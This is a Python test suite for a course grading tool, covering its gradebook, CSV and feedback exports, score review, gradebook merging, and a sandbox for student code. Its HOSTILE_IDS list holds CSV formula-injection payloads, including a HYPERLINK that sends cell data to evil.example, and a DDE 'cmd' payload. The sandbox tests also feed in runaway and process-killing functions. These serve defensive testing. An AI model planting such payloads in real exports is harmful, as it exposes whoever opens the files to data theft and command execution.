"""The gradebook, its exports and merges, and the implement sandbox, without notebook kernels."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import time
from pathlib import Path

import gradingkit as kit
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmfs.cli import main as llmfs_main
from llmfs.course import CourseError
from llmfs.course.exercises.verdict import Verdict
from llmfs.course.grading import reports, shown
from llmfs.course.grading.collect import collect_submissions
from llmfs.course.grading.gradebook import Gradebook, Review, Row, merge_gradebooks
from llmfs.course.grading.limits import Limits
from llmfs.course.grading.sandbox import FunctionTask, RunOutcome, run_function, run_functions
from llmfs.course.grading.score import SubmissionResult

# Seconds in all (gradebooks written and merged in hundreds of generated orders, worker processes):
# the file is scheduled early (conftest.py).
pytestmark = pytest.mark.slow


def _result(student: str, sha: str, *rows: Verdict) -> SubmissionResult:
    run = RunOutcome("ok", None, "ran every cell")
    return SubmissionResult(student, "ch09", f"{student}.ipynb", sha, 7, "checks", run, rows)


RIGHT = Verdict("ch09.q1", 2.0, 2.0, "right", "2 of 2 fields right", "{}")
WRONG = Verdict("ch09.q1", 2.0, 0.0, "wrong", "0 of 2 fields right; wrong: shape", "{}")
PENDING = Verdict("ch09.why", 2.0, None, "pending", "awaiting", "My answer.", "sha-a")


def test_a_recorded_submission_is_graded_for_its_bytes_seed_and_checks_only(tmp_path: Path) -> None:
    with Gradebook(tmp_path / "g.sqlite") as book:
        book.record(_result("ada", "h1", RIGHT, PENDING))
        assert book.is_graded("ada", "ch09", "h1", 7, "checks")
        assert not book.is_graded("ada", "ch09", "h2", 7, "checks")
        assert not book.is_graded("ada", "ch09", "h1", 8, "checks")
        assert not book.is_graded("ada", "ch09", "h1", 7, "other")
        book.record(_result("ada", "h2", WRONG))
        assert [(r.exercise, r.status) for r in book.rows()] == [("ch09.q1", "wrong")]


def test_the_seed_is_chosen_once_and_a_different_one_is_refused(tmp_path: Path) -> None:
    with Gradebook(tmp_path / "g.sqlite") as book:
        assert book.seed(None, 42) == 42
        assert book.seed(None, 99) == 42
        with pytest.raises(CourseError, match="graded with seed 42, not 5"):
            book.seed(5, 1)


def test_a_file_that_is_not_a_gradebook_is_a_course_error(tmp_path: Path) -> None:
    (tmp_path / "g.sqlite").write_text("not sqlite at all" * 100)
    with pytest.raises(CourseError, match="not a gradebook"):
        Gradebook(tmp_path / "g.sqlite")


def test_reviews_apply_to_the_answer_they_scored_and_are_bounded(tmp_path: Path) -> None:
    with Gradebook(tmp_path / "g.sqlite") as book:
        book.record(_result("ada", "h1", RIGHT, PENDING))
        with pytest.raises(CourseError, match=r"score 3 is outside 0..2"):
            book.review("ada", "ch09.why", 3, "")
        with pytest.raises(CourseError, match="no written answer"):
            book.review("bob", "ch09.why", 1, "")
        book.review("ada", "ch09.why", 1.5, "half")
        row = next(r for r in book.rows() if r.exercise == "ch09.why")
        assert (row.score, row.status, row.message) == (1.5, "reviewed", "half")
        changed = Verdict("ch09.why", 2.0, None, "pending", "awaiting", "New.", "sha-b")
        book.record(_result("ada", "h2", RIGHT, changed))
        row = next(r for r in book.rows() if r.exercise == "ch09.why")
        assert (row.score, row.status) == (None, "pending")


def test_the_csv_has_a_column_per_exercise_total_and_pending_never_zero(tmp_path: Path) -> None:
    with Gradebook(tmp_path / "g.sqlite") as book:
        book.record(_result("ada", "h1", RIGHT, PENDING))
        book.record(_result("bob", "h2", WRONG))
        reports.write_gradebook_csv(book, kit.MANIFEST, tmp_path / "gradebook.csv")
    lines = (tmp_path / "gradebook.csv").read_text().splitlines()
    assert lines == [
        "student,ch09.q1,ch09.why,total,pending,run,notes,student_id",
        "ada,2,pending,2,1,ch09: ok,,ada",
        "bob,0,,0,0,ch09: ok,,bob",
    ]


def test_feedback_gives_results_and_messages_per_student(tmp_path: Path) -> None:
    with Gradebook(tmp_path / "g.sqlite") as book:
        book.record(_result("a/da", "h1", WRONG, PENDING))
        assert reports.write_feedback(book, kit.MANIFEST, tmp_path / "fb", "html") == 1
    text = (tmp_path / "fb" / reports.feedback_file("a/da", "html")).read_text()
    assert reports.feedback_file("a/da", "html").startswith("a_da-")
    assert "Feedback for a/da" in text and "wrong: shape" in text and "await" in text


def test_merging_gradebooks_keeps_every_student_and_the_later_of_two_versions(
    tmp_path: Path,
) -> None:
    with Gradebook(tmp_path / "a.sqlite") as a:
        a.record(_result("ada", "h1", RIGHT), graded_at="2026-01-01T00:00:00Z")
        a.record(_result("cy", "h5", RIGHT), graded_at="2026-01-01T00:00:00Z")
    with Gradebook(tmp_path / "b.sqlite") as b:
        b.record(_result("bob", "h2", WRONG), graded_at="2026-01-02T00:00:00Z")
        b.record(_result("cy", "h6", WRONG), graded_at="2026-01-03T00:00:00Z")
    messages = merge_gradebooks(
        tmp_path / "all.sqlite", [tmp_path / "a.sqlite", tmp_path / "b.sqlite"]
    )
    assert len(messages) == 1 and "cy ch09" in messages[0]
    with Gradebook(tmp_path / "all.sqlite") as merged:
        statuses = {(r.student, r.status) for r in merged.rows()}
    assert statuses == {("ada", "right"), ("bob", "wrong"), ("cy", "wrong")}
    with pytest.raises(CourseError, match="no such gradebook"):
        merge_gradebooks(tmp_path / "all.sqlite", [tmp_path / "missing.sqlite"])


def test_submissions_are_files_or_folders_named_by_student(tmp_path: Path) -> None:
    chapter = kit.MANIFEST.published_chapters[0]
    name = Path(chapter.notebook).name
    (tmp_path / "ada.ipynb").write_text("{}")
    (tmp_path / "bob").mkdir()
    (tmp_path / "bob" / name).write_text("{}")
    (tmp_path / "bob" / "scratch.ipynb").write_text("{}")
    (tmp_path / "cy").mkdir()
    (tmp_path / ".hidden").mkdir()
    found = collect_submissions([tmp_path], chapter)
    assert [(s.student, s.path.name) for s in found[:2]] == [("ada", "ada.ipynb"), ("bob", name)]
    assert "holds no notebook" in found[2].problem
    assert found[1].notes == (f"graded {name}; also found scratch.ipynb (not graded)",)
    single = collect_submissions([tmp_path / "ada.ipynb"], chapter, student="ada@example")
    assert single[0].student == "ada@example"
    with pytest.raises(CourseError, match="--student names one submission, but 3"):
        collect_submissions([tmp_path], chapter, student="ada")
    with pytest.raises(CourseError, match="no such submission"):
        collect_submissions([tmp_path / "nobody.ipynb"], chapter)


def _grade(*argv: str) -> tuple[int, str]:
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        code = llmfs_main(["grade", *argv])
    return code, err.getvalue()


def test_grade_refuses_bad_usage_with_a_message(tmp_path: Path) -> None:
    assert _grade("--out", str(tmp_path)) == (
        2,
        "llmfs grade: give SUBMISSIONS and --chapter N (or --explain, or --merge)\n",
    )
    code, message = _grade(str(tmp_path), "--chapter", "99", "--out", str(tmp_path))
    assert code == 2 and "no published chapter '99'" in message
    code, message = _grade(str(tmp_path), "--chapter", "1", "--jobs", "0")
    assert code == 2 and "--jobs must be at least 1, got 0" in message
    code, message = _grade("--explain", "--out", str(tmp_path / "none"))
    assert code == 2 and "no gradebook yet" in message
    code, message = _grade(str(tmp_path), "--chapter", "1", "--checks", str(tmp_path))
    assert code == 2 and "manifest" in message


LIMITS = Limits(implement_timeout=10, case_timeout=0.5, memory_mb=512)


def test_the_worker_returns_plain_outcomes_per_case() -> None:
    source = "def f(x):\n    if x < 0:\n        raise ValueError('no')\n    return [x, (x, 2)]\n"
    run = run_function(source, "f", [(1,), (-1,)], LIMITS)
    assert run.outcomes == ({"value": [1, [1, 2]]}, {"error": "ValueError"})


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("    while True:\n        pass", {"error": "Timeout"}),
        ("    return bytearray(10 * 1024 ** 3)", {"error": "MemoryError"}),
        ("    import sys\n    sys.exit(0)", {"error": "SystemExit"}),
        ('    print(\'{"outcomes": [{"value": 1}]}\')\n    return 2', {"value": 2}),
    ],
    ids=["loop", "alloc", "sysexit", "fake-output"],
)
def test_the_worker_survives_hostile_functions_case_by_case(body: str, expected: dict) -> None:
    started = time.monotonic()
    run = run_function(f"def f(x):\n{body}\n", "f", [(1,)], LIMITS)
    assert run.outcomes == (expected,)
    assert time.monotonic() - started < 10


def test_a_task_that_ends_the_worker_costs_only_that_task() -> None:
    tasks = [
        FunctionTask("a", "def f(x):\n    return x + 1\n", "f", ((1,),)),
        FunctionTask("b", "import os\ndef f(x):\n    os._exit(3)\n", "f", ((1,),)),
        FunctionTask("c", "def f(x):\n    while True:\n        pass\n", "f", ((1,),)),
        FunctionTask("d", "def g(x):\n    return x\n", "g", ((5,), (6,))),
    ]
    runs = run_functions(tasks, LIMITS)
    assert runs["a"].outcomes == ({"value": 2},)
    assert runs["b"].outcomes is None and "exit status 3" in runs["b"].problem
    assert runs["c"].outcomes == ({"error": "Timeout"},)
    assert runs["d"].outcomes == ({"value": 5}, {"value": 6})


def test_a_function_that_ends_its_process_or_never_defines_is_a_problem() -> None:
    gone = run_function("import os\ndef f(x):\n    os._exit(0)\n", "f", [(1,)], LIMITS)
    assert gone.outcomes is None and "ended its process" in gone.problem
    bad = run_function("def f(x, y=1/0):\n    return x\n", "f", [(1,)], LIMITS)
    assert bad.outcomes is None and "ZeroDivisionError" in bad.problem


def test_the_answer_key_has_a_page_per_chapter_with_every_answer(tmp_path: Path) -> None:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert llmfs_main(["key", "--out", str(tmp_path)]) == 0
    for chapter in kit.MANIFEST.published_chapters:
        page = (tmp_path / f"{chapter.id}-key.md").read_text(encoding="utf-8")
        key = kit.key_of(chapter)
        for item in key.exercises:
            assert f"## {item.exercise.id}: {item.exercise.title}" in page
            for value in item.answers.values():
                assert f"`{json.dumps(value)}`" in page
            if item.model_answer:
                assert item.model_answer.splitlines()[0] in page
            if item.spec is not None and item.spec.shortcuts is not None:
                assert all(f"`{name}`" in page for name in item.spec.shortcuts.names)
    with contextlib.redirect_stdout(io.StringIO()):
        assert llmfs_main(["key", "--out", str(tmp_path), "--html", "--chapter", "2"]) == 0
    assert (tmp_path / "ch02-key.html").read_text().startswith("<!DOCTYPE html>")


def test_the_progress_bar_draws_on_a_terminal_and_logs_lines_elsewhere() -> None:
    from llmfs.course.grading.grade import Progress

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    log, terminal = io.StringIO(), Terminal()
    for stream in (log, terminal):
        bar = Progress(2, stream)
        bar.step("ada")
        bar.step("bob")
    assert log.getvalue() == "graded 1/2: ada\ngraded 2/2: bob\n"
    drawn = terminal.getvalue()
    assert "\r[###############...............] 1/2" in drawn
    assert "\r[##############################] 2/2" in drawn and drawn.endswith("\n")


def test_a_rerun_skips_what_is_graded_unless_the_file_or_the_settings_change(
    tmp_path: Path,
) -> None:
    chapter = kit.MANIFEST.published_chapters[0]
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "ada.ipynb").write_text(json.dumps(kit.correct_notebook(chapter)), encoding="utf-8")
    common = [str(subs), "--chapter", chapter.id, "--no-execute", "--out", str(tmp_path / "out")]

    def grade(*extra: str) -> str:
        out = io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
            assert llmfs_main(["grade", *common, *extra]) == 0
        return out.getvalue()

    assert "graded 1, skipped 0" in grade("--cases", "5")
    assert "graded 0, skipped 1" in grade("--cases", "5")
    assert "graded 1, skipped 0" in grade("--cases", "6")
    assert "graded 1, skipped 0" in grade("--cases", "6", "--regrade")
    (subs / "ada.ipynb").write_text(json.dumps(kit.student_notebook(chapter)), encoding="utf-8")
    assert "graded 1, skipped 0" in grade("--cases", "6")
    assert "ada: 0 of" in grade("--cases", "6", "--regrade")


# -- exports that are safe to open, whatever the ids -------------------------------------------

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "\tTAB",
    "\rCR",
    "zoe smith",
    "zoe_smith",
    "Zoe_Smith",
    "+SUM",
    "@SUM",
    "ada",
]


def _explained(student: str, sha: str = "sha-a", text: str = "My answer.") -> SubmissionResult:
    answer = Verdict("ch09.why", 2.0, None, "pending", "awaiting", text, sha)
    return _result(student, f"file-{student}-{sha}", RIGHT, answer)


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _no_formula(rows: list[dict[str, str]], exact: set[str]) -> None:
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(reports.FORMULA_STARTS), (column, value)
        assert reports.student_from_key(row["student_id"]) in exact


def test_csv_cells_never_start_a_formula_and_keep_the_exact_id(tmp_path: Path) -> None:
    with Gradebook(tmp_path / "g.sqlite") as book:
        for student in HOSTILE_IDS:
            book.record(_explained(student))
        book.record_notes("ch09", {"-2+3": ["=cmd|' /C calc'!A0 is a symbolic link: refused"]})
        reports.write_gradebook_csv(book, kit.MANIFEST, tmp_path / "gradebook.csv")
        reports.write_review_sheets(book, {}, tmp_path / "review")
    table = _csv(tmp_path / "gradebook.csv")
    _no_formula(table, set(HOSTILE_IDS))
    by_id = {reports.student_from_key(r["student_id"]): r for r in table}
    assert set(by_id) == set(HOSTILE_IDS)
    assert by_id["+SUM(1,1)"]["student"] == "'+SUM(1,1)"
    assert by_id["-2+3"]["student"] == "'-2+3"
    assert by_id["-2+3"]["notes"].startswith("ch09: =cmd")  # escaped by its "ch09: " prefix
    assert by_id["ada"]["student"] == "ada" and by_id["ada"]["student_id"] == "ada"
    scores = _csv(tmp_path / "review" / reports.SCORES_FILE)
    _no_formula(scores, set(HOSTILE_IDS))
    assert len(scores) == len(HOSTILE_IDS)


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1, max_size=30))
def test_escaping_and_the_id_encoding_round_trip_for_any_text(text: str) -> None:
    # A cell never starts a formula and never holds a bidi or control character (tab and line
    # breaks aside): those come back as their visible escapes, everything else as it was.
    cell = reports.csv_text(text)
    assert not cell.startswith(reports.FORMULA_STARTS)
    assert not any(c in shown.BIDI or (ord(c) < 32 and c not in "\t\r\n") for c in cell)
    assert reports.csv_untext(cell) == shown.neutral(text)
    if shown.neutral(text) == text:
        assert reports.csv_untext(cell) == text
    key = reports.student_key(text)
    assert not key.startswith(reports.FORMULA_STARTS) and "," not in key
    assert reports.student_from_key(key) == text


@settings(max_examples=200, deadline=None)
@given(st.sets(st.text(min_size=1, max_size=12), min_size=1, max_size=12))
def test_feedback_file_names_are_unique_per_exact_id_even_case_folded(ids: set[str]) -> None:
    names = reports.feedback_files(ids)
    assert set(names) == ids
    assert len({name.casefold() for name in names.values()}) == len(ids)
    assert all("/" not in name and len(name.encode()) < 200 for name in names.values())


def test_every_student_gets_their_own_feedback_file_and_stale_ones_go(tmp_path: Path) -> None:
    folder = tmp_path / "fb"
    folder.mkdir()
    (folder / "zoe_smith.md").write_text("feedback of an older export")
    with Gradebook(tmp_path / "g.sqlite") as book:
        for student in HOSTILE_IDS:
            book.record(_explained(student))
        assert reports.write_feedback(book, kit.MANIFEST, folder) == len(HOSTILE_IDS)
    files = sorted(p.name for p in folder.glob("*.md"))
    assert len(files) == len(HOSTILE_IDS) and "zoe_smith.md" not in files
    index = _csv(folder / reports.FEEDBACK_INDEX)
    _no_formula(index, set(HOSTILE_IDS))
    for row in index:
        student = reports.student_from_key(row["student_id"])
        text = (folder / row["file"]).read_bytes().decode("utf-8")
        assert text.startswith(f"# Feedback for {shown.markdown(student)}\n")


# -- explain review: a score belongs to the answer it was given for ------------------------------


def _scores_file(tmp_path: Path, book: Gradebook) -> Path:
    reports.write_review_sheets(book, {}, tmp_path / "review")
    return tmp_path / "review" / reports.SCORES_FILE


def _fill(path: Path, scores: dict[str, str]) -> None:
    rows = _csv(path)
    for row in rows:
        student = reports.student_from_key(row["student_id"])
        if student in scores:
            row["score"], row["comment"] = scores[student], f"scored {student}"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(reports.SCORE_COLUMNS))
        writer.writeheader()
        writer.writerows(rows)


def _why(book: Gradebook, student: str) -> Row:
    return next(r for r in book.rows() if r.student == student and r.exercise == "ch09.why")


def test_a_changed_answer_stays_pending_until_scored_again(tmp_path: Path) -> None:
    with Gradebook(tmp_path / "g.sqlite") as book:
        book.record(_explained("ada", "sha-a"))
        path = _scores_file(tmp_path, book)
        assert "sha-a" in path.read_text()
        _fill(path, {"ada": "1.5"})
        # The student resubmits a changed answer before the scores are read back.
        book.record(_explained("ada", "sha-b", "A new answer."))
        read = reports.read_review_scores(book, path)
        assert (read.stored, read.kept) == (0, 0)
        assert len(read.stale) == 1 and "answer changed since this score" in read.stale[0]
        assert "line 2 (ada ch09.why)" in read.stale[0]
        assert (_why(book, "ada").status, _why(book, "ada").score) == ("pending", None)
        # The rewritten sheet does not carry the old score to the new answer.
        rewritten = _csv(_scores_file(tmp_path, book))
        assert [(r["answer_sha"], r["score"]) for r in rewritten] == [("sha-b", "")]
        _fill(path, {"ada": "2"})
        assert reports.read_review_scores(book, path).stored == 1
        assert (_why(book, "ada").status, _why(book, "ada").score) == ("reviewed", 2.0)
        # Back to the first answer: it was never scored, so it is pending again.
        book.record(_explained("ada", "sha-a"))
        assert _why(book, "ada").status == "pending"


def test_reading_scores_is_all_or_nothing_and_names_the_bad_row(tmp_path: Path) -> None:
    with Gradebook(tmp_path / "g.sqlite") as book:
        for student in ("ada", "bob", "cy", "dee"):
            book.record(_explained(student))
        path = _scores_file(tmp_path, book)
        for bad, reason in [("3", "outside 0..2"), ("nan", "not a number"), ("x", "not a number")]:
            _fill(path, {"ada": "1", "bob": "2", "cy": bad, "dee": "0"})
            with pytest.raises(CourseError, match=rf"line 4 \(cy ch09.why\).*{reason}"):
                reports.read_review_scores(book, path)
            assert book.reviews() == []
            assert all(r.status == "pending" for r in book.rows() if r.exercise == "ch09.why")
        _fill(path, {"ada": "1", "bob": "2", "cy": "0.5", "dee": "0"})
        assert reports.read_review_scores(book, path).stored == 4
        first = {(r.student, r.reviewed_at) for r in book.reviews()}
        # Reading the same file again stores nothing new, and keeps when each was reviewed.
        again = reports.read_review_scores(book, path)
        assert (again.stored, again.kept) == (0, 4)
        assert {(r.student, r.reviewed_at) for r in book.reviews()} == first


def test_an_old_scores_file_without_answer_hashes_is_refused(tmp_path: Path) -> None:
    with Gradebook(tmp_path / "g.sqlite") as book:
        book.record(_explained("ada"))
        path = tmp_path / "old.csv"
        path.write_text("student,exercise,points,score,comment\nada,ch09.why,2,1,ok\n")
        with pytest.raises(CourseError, match=r"missing column\(s\) \['student_id', 'answer"):
            reports.read_review_scores(book, path)


# -- merging sharded runs ----------------------------------------------------------------------


def _review(book: Gradebook, student: str, score: float, when: str) -> None:
    row = _why(book, student)
    book.store_reviews([Review(student, "ch09.why", row.answer_sha, score, "c", when)])


def _shards(tmp_path: Path) -> tuple[Path, Path]:
    with Gradebook(tmp_path / "a.sqlite") as a:
        a.seed(7, 0)
        a.record(_explained("ada"), graded_at="2026-01-01T00:00:00Z")
        a.record(_explained("bob"), graded_at="2026-01-01T00:00:00Z")
        a.record_notes("ch09", {"ada": ["graded ch09.ipynb; also found Archive/x.ipynb"]})
        _review(a, "ada", 2.0, "2026-01-05T00:00:00.000000Z")  # the newer review of ada
        _review(a, "bob", 0.5, "2026-01-02T00:00:00.000000Z")
    with Gradebook(tmp_path / "b.sqlite") as b:
        b.seed(7, 0)
        b.record(_explained("ada"), graded_at="2026-01-01T00:00:00Z")
        b.record(_explained("cy"), graded_at="2026-01-01T00:00:00Z")
        _review(b, "ada", 1.0, "2026-01-03T00:00:00.000000Z")
        _review(b, "cy", 1.0, "2026-01-03T00:00:00.000000Z")
    return tmp_path / "a.sqlite", tmp_path / "b.sqlite"


def test_merge_takes_the_newest_review_whatever_the_argument_order(tmp_path: Path) -> None:
    a, b = _shards(tmp_path)
    snapshots = []
    for order in ([a, b], [b, a], [b, a, b]):
        target = tmp_path / f"merged-{len(snapshots)}.sqlite"
        assert merge_gradebooks(target, order) == []
        with Gradebook(target) as merged:
            snapshots.append((merged.snapshot(), merged.reviews()))
            assert merged.meta("seed") == "7"  # the seed is kept
            scores = {r.student: r.score for r in merged.rows() if r.exercise == "ch09.why"}
            assert scores == {"ada": 2.0, "bob": 0.5, "cy": 1.0}
            assert merged.notes() == {
                ("ada", "ch09"): ["graded ch09.ipynb; also found Archive/x.ipynb"]
            }
    assert snapshots[0] == snapshots[1] == snapshots[2]


def test_a_submission_graded_later_wins_in_either_order_ties_by_value(tmp_path: Path) -> None:
    for name, when in (("a", "2026-01-01T00:00:00Z"), ("b", "2026-01-01T00:00:00.500000Z")):
        with Gradebook(tmp_path / f"{name}.sqlite") as book:
            book.record(_result("ada", f"h-{name}", RIGHT), graded_at=when)
            book.record(_result("bob", f"h-{name}", RIGHT), graded_at="2026-01-01T00:00:00Z")
    results = []
    for order in (["a", "b"], ["b", "a"]):
        target = tmp_path / f"{''.join(order)}.merged"
        messages = merge_gradebooks(target, [tmp_path / f"{n}.sqlite" for n in order])
        assert len(messages) == 2 and all("graded from different files" in m for m in messages)
        with Gradebook(target) as merged:
            kept = {s.student: s.sha256 for s in merged.submissions()}
        results.append(kept)
    assert results[0] == results[1]
    assert results[0]["ada"] == "h-b"  # half a second later
    assert results[0]["bob"] == "h-b"  # same time: the greater hash, in either order


def test_merge_refuses_mixed_seeds_and_stores_nothing_unless_allowed(tmp_path: Path) -> None:
    a, b = _shards(tmp_path)
    with Gradebook(tmp_path / "c.sqlite") as c:
        c.seed(8, 0)
        c.record(_result("dee", "h9", WRONG))  # its submission row says seed 7: mixed too
    target = tmp_path / "out" / "gradebook.sqlite"
    with pytest.raises(CourseError, match=r"different seeds .*c\.sqlite: 7, 8"):
        merge_gradebooks(target, [a, b, tmp_path / "c.sqlite"])
    with Gradebook(target) as merged:
        assert merged.submissions() == [] and merged.meta("seed") is None
    code, message = _grade(
        "--merge", str(a), str(tmp_path / "c.sqlite"), "--out", str(target.parent)
    )
    assert code == 2 and "--allow-mixed-seeds" in message
    code, message = _grade(
        "--merge", str(a), str(tmp_path / "c.sqlite"), "--out", str(target.parent),
        "--allow-mixed-seeds",
    )  # fmt: skip
    assert code == 0 and "seeds 7, 8" in message
    with Gradebook(target) as merged:
        assert {s.student for s in merged.submissions()} == {"ada", "bob", "dee"}
        assert merged.meta("seed") == "7"


def test_a_format_1_gradebook_is_read_and_its_reviews_kept(tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "old.sqlite"
    with Gradebook(path) as book:
        book.record(_explained("ada"))
    db = sqlite3.connect(path)
    with db:
        db.executescript(
            "DROP TABLE reviews; DROP TABLE notes; CREATE TABLE reviews (student TEXT NOT NULL,"
            " exercise TEXT NOT NULL, answer_sha TEXT NOT NULL, score REAL NOT NULL, comment"
            " TEXT NOT NULL, PRIMARY KEY (student, exercise));"
            " INSERT INTO reviews VALUES ('ada', 'ch09.why', 'sha-a', 1.5, 'old');"
            " UPDATE meta SET value = '1' WHERE key = 'format';"
        )
    db.close()
    with Gradebook(path) as book:
        assert book.meta("format") == "2"
        assert book.reviews() == [Review("ada", "ch09.why", "sha-a", 1.5, "old", "")]
        assert (_why(book, "ada").status, _why(book, "ada").score) == ("reviewed", 1.5)


_STAMPS = ["2026-01-01T00:00:00Z", "2026-01-01T00:00:00.500000Z", "2026-01-02T00:00:00.000000Z"]
_REVIEWS = st.lists(
    st.tuples(
        st.integers(0, 2),  # which gradebook
        st.sampled_from(["ada", "bob"]),
        st.sampled_from(["sha-a", "sha-b"]),
        st.sampled_from([0.0, 1.0, 1.5]),
        st.sampled_from(["", "ok"]),
        st.sampled_from(_STAMPS),
    ),
    max_size=8,
)


@settings(max_examples=10, deadline=None)
@given(_REVIEWS)
def test_any_merge_order_gives_the_newest_review_of_each_answer(reviews: list) -> None:
    import itertools
    import tempfile
    from datetime import datetime

    def newest_first(r: Review) -> tuple[object, ...]:
        return (datetime.fromisoformat(r.reviewed_at.replace("Z", "+00:00")), r.score, r.comment)

    with tempfile.TemporaryDirectory() as folder:
        paths = [Path(folder) / f"{n}.sqlite" for n in range(3)]
        for n, path in enumerate(paths):
            with Gradebook(path) as book:
                book.seed(7, 0)
                for where, student, sha, score, comment, when in reviews:
                    if where == n:
                        book.store_reviews([Review(student, "ch09.why", sha, score, comment, when)])
        best: dict[tuple[str, str], Review] = {}
        for path in paths:
            with Gradebook(path) as book:
                for review in book.reviews():
                    key = (review.student, review.answer_sha)
                    if key not in best or newest_first(review) > newest_first(best[key]):
                        best[key] = review
        for number, order in enumerate(itertools.permutations(paths)):
            target = Path(folder) / f"merged-{number}.sqlite"
            merge_gradebooks(target, order)
            with Gradebook(target) as merged:
                assert {(r.student, r.answer_sha): r for r in merged.reviews()} == best
